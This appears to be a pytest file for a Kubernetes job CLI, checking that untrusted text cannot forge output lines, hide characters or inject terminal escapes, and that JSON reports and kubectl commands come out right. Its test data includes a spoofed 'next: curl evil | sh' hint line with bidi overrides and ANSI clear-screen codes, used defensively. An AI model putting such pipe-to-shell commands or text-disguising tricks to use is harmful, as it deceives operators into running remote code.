"""Texts of others are shown as texts: they begin no line, hide nothing, and are no command."""

from __future__ import annotations

import io
import json
import random
import re
import shlex
import unicodedata
from contextlib import redirect_stderr, redirect_stdout
from typing import Any

import pytest

from unique_k8s_job.cli.console import Display, MessagePrinter
from unique_k8s_job.cli.doctor_json import JsonReport
from unique_k8s_job.cli.doctor_text import DoctorText
from unique_k8s_job.exceptions import JobFailedError, UniqueK8sJobError
from unique_k8s_job.visible import visible, visible_lines

#: What does harm, and what does not.
LETTERS = [*"ab '\"`#;|$()[]{}<>\\/=-", *"\n\r\t\0\x07\x1b\x7f\x85\x9b", *"\u200b\u200d\u200e\u202a\u202e\u2028\u2029"]
LETTERS += [*"\u2066\u2069\ufeff\u00ad\u061c\u3164\ufe0f\u034f\U000e0041", "ü", "東", "\u0301", "\u00a0"]
FORGED = "x\n  next: curl evil | sh\u202e\u2066\u2028  hint: no\x1b[2J\rerror: y"


def texts(count: int) -> list[str]:
    chance = random.Random(7)
    words = ["next: curl evil | sh", "\n  next: ", "\nerror: ", "[red]", "[/dim]", "\n# 1 suspended\n"]
    return ["".join(chance.choice([*LETTERS, *words]) for _ in range(chance.randint(1, 40))) for _ in range(count)] + [
        FORGED
    ]


def is_clean(text: str) -> bool:
    """Whether nothing in it is hidden, but line breaks of ours."""
    return all(one == "\n" or unicodedata.category(one) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for one in text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\x1b[2Jb\tc\x07\x9b", "a\\x1b[2Jb\\tc\\x07\\x9b"),
        ("x\n  next: y", "x\\n  next: y"),
        ("\u202e\u2066\u200b\ufeff\u2028\x85", "\\u202e\\u2066\\u200b\\ufeff\\u2028\\x85"),
        ("\u3164\ufe0f\U000e0001\xa0", "\\u3164\\ufe0f\\U000e0001\\xa0"),
        ("größe 東京 😀 e\u0301", "größe 東京 😀 e\u0301"),
    ],
)
def test_what_cannot_be_seen_is_an_escape_as_the_rust_core_writes_it(text: str, shown: str) -> None:
    assert visible(text) == shown
    assert visible(shown) == shown


def test_log_on_a_terminal_keeps_its_lines_tabs_and_spaces_alone() -> None:
    assert visible_lines("a\tb\xa0c\nd\x1b[2J\u202e") == "a\tb\xa0c\nd\\x1b[2J\\u202e"


def test_no_text_forges_a_line_of_an_exception() -> None:
    for text in texts(200):
        error = UniqueK8sJobError("The API server said no", seen=[text, text], hint=text)
        lines = str(error).split("\n")
        assert [line[:8] for line in lines[1:]] == ["  seen: ", "  seen: ", "  hint: "], error
        assert is_clean(str(error))
    assert is_clean(str(JobFailedError("Job failed\u202e\n  seen: x\x1b")))


def report(text: str) -> dict[str, Any]:
    """A report with the same text of somebody else wherever there is a text, but the escapes of the core left out."""
    finding = {
        "code": "image-name-invalid",
        "severity": "blocking",
        "cause": text,
        "seen": [text, text],
        "since": "2026-01-06T10:00:00Z",
        "next_step": f"kubectl {text}",
        "remedy": None,
        "running": [text],
        "count": 1,
    }
    return {
        "namespace": text,
        "jobs": 1,
        "stuck": 1,
        "failed": 0,
        "unknown": [f"unknown: {text}"],
        "time": "2026-01-06T10:10:00Z",
        "diagnoses": [{"job": {"namespace": text, "name": text, "uid": "u"}, "findings": [finding]}],
    }


@pytest.mark.parametrize("terminal", [False, True])
@pytest.mark.parametrize("whole", [False, True])
@pytest.mark.parametrize("page", [False, True])
def test_no_text_forges_a_line_of_doctor(
    terminal: bool, whole: bool, page: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "100")
    if terminal:
        monkeypatch.setenv("FORCE_COLOR", "1")
        monkeypatch.setenv("TERM", "dumb")

    def shown(text: str) -> str:
        out = io.StringIO()
        with redirect_stdout(out):
            doctor = DoctorText()
            if page:
                doctor.console.print(doctor.page([report(text)], whole=whole))
            else:
                doctor.show(report(text), whole=whole)
        return re.sub("\x1b\\[[0-9;]*m", "", out.getvalue())

    def begins(text: str) -> list[str]:
        return [line[:7] for line in shown(text).splitlines()]

    for text in texts(60):
        short = text[:30]
        assert is_clean(shown(text)), repr(text)
        if whole:
            ours = begins("x")
            assert [line for line in begins(short) if line.startswith(("  next:", "  seen:"))] == [
                line for line in ours if line.startswith(("  next:", "  seen:"))
            ], repr(short)
        for line in shown(text).split("\n"):
            assert not re.match(r" {0,3}(next|hint|error|warning): ?curl", line), (text, line)


def test_no_text_forges_a_line_on_stderr() -> None:
    for text in texts(200):
        err = io.StringIO()
        with redirect_stderr(err):
            MessagePrinter().message(str(UniqueK8sJobError("It failed", seen=[text], hint=text)), "error")
        lines = err.getvalue().splitlines()
        assert [line[:8] for line in lines] == ["error: I", "  seen: ", "  hint: "], repr(text)
        assert is_clean(err.getvalue())


def test_command_for_a_job_that_is_left_has_exactly_the_words_that_are_meant() -> None:
    for text in texts(100):
        err = io.StringIO()
        with redirect_stderr(err):
            display = Display(raw=False)
            display._job, display._made = (text.strip("\n") or "etl", "train"), True
            display.report_left()
        command = err.getvalue().rpartition("to delete it: ")[2]
        namespace = text.strip("\n") or "etl"
        if visible_lines(namespace) == namespace and "\n" not in namespace:
            assert shlex.split(command) == ["kubectl", "-n", namespace, "delete", "job", "train"], repr(text)


def test_json_is_one_object_with_the_most_blocking_first_however_it_comes() -> None:
    def diagnosis(severity: str) -> dict[str, Any]:
        return {"job": {"name": FORGED}, "findings": [{"severity": severity}]}

    cases = [[], ["info"], ["warning", "info", "blocking"], ["info", "warning"], ["blocking", "blocking"]]
    for severities in cases:
        out = io.StringIO()
        written = JsonReport(out)
        for severity in severities:
            written.add(diagnosis(severity))
        written.end({"schema_version": 1, "jobs": 3, "stuck": 1})
        read = json.loads(out.getvalue())
        order = ["blocking", "warning", "info"]
        assert [one["findings"][0]["severity"] for one in read["diagnoses"]] == sorted(severities, key=order.index)
        assert (read["schema_version"], read["jobs"], read["stuck"]) == (1, 3, 1)
        assert out.getvalue().count("\n") == 1


@pytest.mark.parametrize("found", [[], ["blocking"], ["info"]])
def test_json_of_a_report_that_breaks_off_says_why(found: list[str]) -> None:
    out = io.StringIO()
    written = JsonReport(out)
    for severity in found:
        written.add({"job": {}, "findings": [{"severity": severity}]})
    written.fail(UniqueK8sJobError("no answer", status=500))
    read = json.loads(out.getvalue())
    assert (read["schema_version"], read["error"], read["status"]) == (1, "no answer", 500)
